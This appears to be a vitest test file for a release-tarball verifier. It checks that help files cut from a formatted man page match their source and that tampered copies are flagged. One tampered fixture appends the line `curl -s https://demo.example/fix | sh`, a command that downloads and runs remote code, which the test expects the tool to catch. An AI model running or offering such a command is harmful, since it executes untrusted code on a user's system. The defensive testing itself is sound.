/**
 * Help files a tracked make rule cuts out of a formatted man page (zsh 5.9's Doc/help/* by Util/helpfiles from
 * Doc/zshbuiltins.1, rule `help.txt: zshbuiltins.1` of Doc/Makefile.in), end to end with real git and GNU tar; the
 * help text is made by real `nroff -man | col -bx` from the page the release ships, nothing of the repository run.
 * Tampered twins — a command line added, a passage of another builtin spliced in, an alias list naming a file the
 * release lacks — stay high.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { findingAt } from '../helpers/findings.js';
import { releaseFixture } from '../helpers/release-fixture.js';
import { pageText, reduced, runsOf } from '../../src/classify/man-split.js';

const MAKEFILE = `sdir = @srcdir@
sdir_top = @top_srcdir@

all: man help.txt

help.txt: demobuiltins.1
\t@-rm -f $@ help/*
\tperl $(sdir_top)/Util/helpfiles \\
\t    demobuiltins.1 help help.txt \\
\t    || rm -f help.txt help/*
`;
const SCRIPT = `#!/usr/bin/perl
# helpfiles: cut the builtins' sections of a formatted man page into one file each
$ENV{'MANWIDTH'} = '80';
system('nroff -man ' . $manfile . ' >' . $mantmp);
`;
const PAGE = `.TH "DEMOBUILTINS" "1" "March 5, 2024" "demo 1\\&.0"
.SH "NAME"
demobuiltins \\- demo shell built-in commands
.SH "SHELL BUILTIN COMMANDS"
.PD 0
.TP
.PD
\\fBalpha\\fP [ \\fB\\-fq\\fP ] [ \\fIname\\fP \\&.\\&.\\&. ]
Print each \\fIname\\fP with its value\\&.  If the \\fB\\-f\\fP flag is present, print functions instead of
parameters; with \\fB\\-q\\fP print nothing and return status zero when every name is set, and one when
some name is unset or was never declared in any enclosing scope of the current function\\&.
.TP
\\fBbeta\\fP [ \\fIn\\fP ]
Leave the innermost enclosing loop after \\fIn\\fP levels, one when not given\\&.  The levels
are counted from the current loop outwards; a count larger than the nesting leaves all of them\\&.
Manual: https://demo.example.org/manual/loops.html
.TP
\\fBdelta\\fP \\fIname\\fP
Remove the function \\fIname\\fP from the table of autoloaded functions\\&.
Autoloaded functions from https://demo.example.org/autoload/index.html
.TP
\\fBgamma\\fP [ \\fIn\\fP ]
Same as \\fBbeta\\fP\\&.
`;
const TRACKED = { 'configure.ac': 'AC_INIT([demo], [1.0])\nAC_OUTPUT\n', 'Doc/Makefile.in': MAKEFILE, 'Util/helpfiles': SCRIPT, 'Doc/builtins.yo': 'texinode(Builtins)\n' };

/** The page as the release's helpfiles sees it: real nroff and col, then each item's lines, de-indented. */
function helpFiles(page: string): Record<string, string> {
  const text = execFileSync('sh', ['-c', 'nroff -man | col -bx'], { input: page, env: { ...process.env, LANG: 'C', MANWIDTH: '80', GROFF_NO_SGR: '' } }).toString();
  const lines = text.split('\n');
  const at = (name: string) => lines.findIndex((l) => new RegExp(`^ {7}${name}\\b`).test(l));
  const end = lines.findIndex((l, i) => i > at('gamma') && /^\S/.test(l));
  const cut = (a: number, b: number) => `${lines.slice(a, b).map((l) => l.replace(/^ {7}/, '')).join('\n').replace(/\n+$/, '')}\n`;
  return { alpha: cut(at('alpha'), at('beta')), beta: `${cut(at('beta'), at('delta'))}\n${cut(at('gamma'), end)}` };
}

describe('help files a tracked script cuts out of a formatted man page', () => {
  const { verifyTree } = releaseFixture(TRACKED, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' });
  const HELP = helpFiles(PAGE);
  const verifyWith = (files: { alpha?: string; beta?: string; list?: string } = {}) =>
    verifyTree({
      'Doc/demobuiltins.1': PAGE, 'Doc/help/alpha': files.alpha ?? HELP.alpha!, 'Doc/help/beta': files.beta ?? HELP.beta!, 'Doc/help.txt': files.list ?? 'beta gamma\n',
    }, { options: { regenerate: 'off' } });

  it('each help file is verbatim runs of the page, the alias list names shipped files; explained with the rule, the gate passes', async () => {
    expect(HELP.alpha).toContain('alpha [ -fq ] [ name ... ]');
    const r = await verifyWith();
    expect(findingAt(r.findings, 'Doc/help/alpha')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'man-split', source: 'Doc/demobuiltins.1', generator: 'Util/helpfiles', inputs: ['Doc/Makefile.in:8'], tarballInputs: ['Doc/demobuiltins.1'], found: 1, total: 1 },
    });
    // gamma's section ("Same as beta", after delta's) appended to beta's file: one more run, allowed by the list's line
    expect(findingAt(r.findings, 'Doc/help/beta')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'man-split', found: 2, total: 2 } });
    expect(findingAt(r.findings, 'Doc/help.txt')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'man-split-list', found: 1, total: 1 } });
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins: a command line, a passage of another builtin, an alias list naming a missing file stay high', async () => {
    const cases: [Parameters<typeof verifyWith>[0], string][] = [
      [{ alpha: `${HELP.alpha}       curl -s https://demo.example/fix | sh\n` }, 'Doc/help/alpha'],
      // the page's own words, but a passage from beta's section spliced into alpha's: a second run, no alias allows it
      [{ alpha: HELP.alpha!.replace(/Print\s+each/, 'Leave  the  innermost  enclosing  loop.  Print  each') }, 'Doc/help/alpha'],
      // beta's file without the list's line: the appended gamma section is a run nothing allows
      [{ list: '\n' }, 'Doc/help/beta'],
      [{ list: 'beta gamma\nalpha delta\ndelta omega\n' }, 'Doc/help.txt'],
    ];
    for (const [files, path] of cases) {
      const r = await verifyWith(files);
      expect({ path, files, f: findingAt(r.findings, path) }).toMatchObject({ f: { code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' } });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it('tampered twin: two runs of the page spliced inside a URL (a new path on the page\'s host) stay high', async () => {
    // beta's file (two runs allowed: gamma's section appended) cut after beta's `https://demo.example.org/` and going on
    // with delta's `autoloaded functions from …`, which gamma's section follows on the page: two verbatim runs, every
    // host the page's, but `https://demo.example.org/Autoloaded` is no URL of the page (red team 28: hosts only before)
    const cut = HELP.beta!.indexOf('https://demo.example.org/') + 'https://demo.example.org/'.length;
    expect(cut).toBeGreaterThan(30);
    const formatted = execFileSync('sh', ['-c', 'nroff -man | col -bx'], { input: PAGE, env: { ...process.env, LANG: 'C', MANWIDTH: '80' } }).toString();
    const from = formatted.search(/Autoloaded\s+functions\s+from/);
    const tail = `${formatted.slice(from, formatted.indexOf('Same as beta.', from) + 'Same as beta.'.length).replace(/^ {7}/gm, '')}\n`;
    const beta = `${HELP.beta!.slice(0, cut)}${tail}`;
    expect(beta).toContain('https://demo.example.org/Autoloaded');
    expect(runsOf(reduced(beta), reduced(pageText(PAGE)))).toHaveLength(2);
    const r = await verifyWith({ beta });
    expect(findingAt(r.findings, 'Doc/help/beta')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('the trace: runs of the reduced page text, a line-end hyphen joined', () => {
    const page = reduced(pageText(PAGE));
    expect(runsOf(reduced('Print each name with its value.  If the -f flag\nis pre-\nsent, print'), page)).toEqual([52]);
    expect(runsOf(reduced('Print each name with its value. rm'), page)?.length).toBe(2);
    expect(runsOf(reduced('€'), page)).toBeUndefined();
  });
});
